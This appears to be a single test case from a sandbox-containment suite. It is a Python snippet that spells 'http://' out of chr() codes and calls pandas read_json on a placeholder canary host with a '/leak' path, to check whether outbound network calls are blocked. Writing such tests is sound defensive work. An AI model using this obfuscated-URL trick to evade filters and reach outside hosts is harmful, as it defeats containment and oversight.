# attack: pd.read_json on a URL spelled with chr() codes
# expect: contained:python
# unguarded: python
import pandas as pd
url = "".join(chr(c) for c in [104, 116, 116, 112, 58, 47, 47]) + "CANARY_HOST:" + str(CANARY_PORT) + "/leak"
pd.read_json(url)
